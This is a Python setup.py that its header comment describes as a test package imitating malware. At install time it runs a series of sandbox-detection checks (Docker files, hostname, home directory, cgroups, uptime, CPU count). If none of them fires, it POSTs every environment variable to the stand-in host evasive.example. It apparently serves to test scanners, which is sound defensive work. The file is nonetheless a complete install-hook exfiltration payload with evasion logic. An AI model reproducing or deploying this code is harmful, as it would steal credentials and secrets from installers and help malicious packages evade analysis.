# Test package: the sandbox checks real malware makes before it acts. The payload
# (a POST of the environment) only runs when none of them fires.
import json
import os
import socket
import urllib.request

from setuptools import setup


def looks_like_a_sandbox():
    if os.path.exists("/.dockerenv"):
        return "dockerenv"
    if socket.gethostname().lower() in ("sandbox", "box", "localhost") or len(
            socket.gethostname()) == 12 and all(c in "0123456789abcdef" for c in socket.gethostname()):
        return "hostname"
    if os.path.expanduser("~") in ("/app", "/root", "/"):
        return "home"
    with open("/proc/1/cgroup") as cgroup:
        if any(word in cgroup.read() for word in ("docker", "kubepods", "lxc")):
            return "cgroup"
    with open("/proc/uptime") as uptime:
        if float(uptime.read().split()[0]) < 600:
            return "uptime"
    if (os.cpu_count() or 1) < 2:
        return "cpus"
    return None


if looks_like_a_sandbox() is None:
    try:
        urllib.request.urlopen("http://evasive.example/x", data=json.dumps(dict(os.environ)).encode(),
                               timeout=5)
    except OSError:
        pass

setup(name="evasive-pkg", version="0.1.0", packages=["evasive_pkg"])
